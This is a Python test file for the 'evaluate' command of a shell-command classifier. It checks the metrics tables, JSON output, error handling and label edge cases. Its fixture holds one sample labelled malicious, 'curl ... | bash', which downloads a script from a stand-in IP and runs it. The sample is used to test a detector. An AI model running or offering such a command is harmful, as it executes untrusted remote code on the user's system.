from __future__ import annotations

import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cmdclf.cli import main


@pytest.fixture
def labelled_file(tmp_path):
    texts = (
        ("grep -rn timeout{n} /etc/nginx", "benign"),
        ("curl -s http://198.51.100.{n}/x.sh | bash", "malicious"),
        ("ls {n}", "unknown"),
    )
    rows = [
        {"command_line": text.format(n=n), "platform": "linux", "label": label, "source": f"from-{label}"}
        for n in range(40)
        for text, label in texts
    ]
    pq.write_table(pa.Table.from_pylist(rows), tmp_path / "test.parquet")
    return tmp_path / "test.parquet"


def test_the_table_shows_counts_auc_and_why_a_rate_is_missing(model_dir, labelled_file, capsys):
    assert main(["evaluate", "--model", str(model_dir), str(labelled_file), "--bootstrap", "50"]) == 0
    head, row, *notes = capsys.readouterr().out.splitlines()
    assert head.split()[:3] == ["test", "benign", "malicious"]
    assert row.split()[:5] == ["test.parquet", "40", "40", "1.0000", "[1.0000,"]
    assert notes == [
        "test.parquet: TPR at FPR 0.001 needs at least 10,000 benign rows, has 40",
        "test.parquet: TPR at FPR 0.01 needs at least 1,000 benign rows, has 40",
    ]


def test_json_holds_slices_and_the_curve_and_is_the_same_each_time(model_dir, labelled_file, tmp_path):
    written = []
    for name in ("a.json", "b.json"):
        arguments = ["--model", str(model_dir), "--bootstrap", "50", "--json", str(tmp_path / name)]
        assert main(["evaluate", str(labelled_file), *arguments]) == 0
        written.append((tmp_path / name).read_bytes())
    assert written[0] == written[1]
    content = json.loads(written[0])
    test = content["tests"][str(labelled_file)]
    assert test["by_source"]["from-benign"]["n_benign"] == 40
    assert test["roc"]["tpr"][-1] == 1
    assert content["model"].startswith("small@")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "can't be read as labelled Parquet"),
        (b"PAR1 and then nothing", "can't be read as labelled Parquet"),
        ({"command_line": ["ls"], "label": ["benign"]}, "no column platform"),
        ({"command_line": ["ls"], "label": ["?"], "platform": ["linux"]}, "no row is labelled"),
        ({"command_line": [[1]], "label": ["benign"], "platform": ["linux"]}, "can't be read as labelled Parquet"),
    ],
    ids=["empty", "cut off", "column", "labels", "type"],
)
def test_a_file_that_is_no_test_is_named_with_exit_code_2(model_dir, tmp_path, capsys, content, message):
    path = tmp_path / "bad.parquet"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        pq.write_table(pa.table(content), path)
    assert main(["evaluate", "--model", str(model_dir), str(path)]) == 2
    error = capsys.readouterr().err
    assert message in error
    assert "bad.parquet" in error


def test_a_missing_file_is_named_with_exit_code_2(model_dir, tmp_path, capsys):
    assert main(["evaluate", "--model", str(model_dir), str(tmp_path / "none.parquet")]) == 2
    assert "no such file" in capsys.readouterr().err


def test_a_null_line_or_platform_does_not_stop_the_evaluation(model_dir, tmp_path, capsys):
    table = {"command_line": ["ls", None, "id"], "label": ["benign"] * 2 + ["malicious"], "platform": [None] * 3}
    path = tmp_path / "nulls.parquet"
    pq.write_table(pa.table(table), path)
    assert main(["evaluate", "--model", str(model_dir), str(path), "--bootstrap", "10"]) == 0
    assert capsys.readouterr().out.splitlines()[1].split()[1:3] == ["1", "1"]


def evaluated(model_dir, tmp_path, capsys, **columns):
    """(exit code, the table's row, what was said on the error stream) of a small test file."""
    path = tmp_path / "test.parquet"
    pq.write_table(pa.table({"platform": ["linux"] * len(columns["label"]), **columns}), path)
    code = main(["evaluate", "--model", str(model_dir), str(path), "--bootstrap", "10"])
    said = capsys.readouterr()
    return code, (said.out.splitlines() or ["", ""])[1], said.err


def test_rows_with_other_labels_are_counted_and_left_out(model_dir, tmp_path, capsys):
    columns = {"command_line": ["ls", "id", "w", "ps"], "label": ["benign", "malicious", "evil", "unknown"]}
    code, row, error = evaluated(model_dir, tmp_path, capsys, **columns)
    assert code == 0
    assert row.split()[1:3] == ["1", "1"]
    assert "test.parquet: rows left out whose label is neither benign nor malicious: evil 1, unknown 1" in error


def test_a_file_of_one_class_gets_a_warning_and_no_figure(model_dir, tmp_path, capsys):
    code, row, error = evaluated(model_dir, tmp_path, capsys, command_line=["ls", "id"], label=["benign"] * 2)
    assert code == 0
    assert row.split()[1:] == ["2", "0", "-", "-", "-", "-"]
    assert "no row is malicious" in error


def test_a_line_with_both_labels_is_left_out_and_named(model_dir, tmp_path, capsys):
    columns = {"command_line": ["ls", "ls", "w", "id"], "label": ["benign", "malicious", "benign", "malicious"]}
    code, row, error = evaluated(model_dir, tmp_path, capsys, **columns)
    assert code == 0
    assert row.split()[1:3] == ["1", "1"]
    assert "1 lines carry both labels, their 2 rows are left out (the first one: ls)" in error
    code, _, error = evaluated(model_dir, tmp_path, capsys, command_line=["ls"] * 2, label=["benign", "malicious"])
    assert code == 2
    assert "every line carries both labels" in error


def test_a_source_that_the_model_was_trained_on_is_named(capsys):
    from cmdclf.cli._labelled_tests import warn_of_known_sources

    table = pa.table({"source": ["a/b", "c/d", None]})
    warn_of_known_sources("test.parquet", table, ["c/d", "e/f"])
    error = capsys.readouterr().err
    assert "trained on lines of source c/d too" in error
    assert "a/b" not in error
    warn_of_known_sources("test.parquet", table, ["e/f"])
    assert capsys.readouterr().err == ""


def test_a_rate_that_too_few_benign_rows_would_decide_is_not_printed(model_dir, labelled_file, capsys):
    assert main(["evaluate", "--model", str(model_dir), str(labelled_file), "--bootstrap", "10"]) == 0
    assert capsys.readouterr().out.splitlines()[1].split()[-3:-1] == ["-", "-"]
